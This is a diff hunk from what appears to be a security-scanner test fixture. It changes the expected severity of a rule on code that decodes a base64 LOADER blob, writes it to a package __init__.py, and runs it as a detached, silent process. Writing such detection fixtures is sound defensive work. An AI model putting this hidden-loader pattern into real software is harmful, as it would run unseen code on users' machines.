@@ -14,7 +14,7 @@ os.makedirs(public, exist_ok=True)
 init_path = os.path.join(public, "__init__.py")
 with open(init_path, "wb") as fh:
     fh.write(base64.b64decode(LOADER))
-subprocess.Popen(  # expect: HS107 critical, HS110 medium
+subprocess.Popen(  # expect: HS107 critical, HS110 high
     [sys.executable, init_path],
     start_new_session=True,
     stdout=subprocess.DEVNULL,
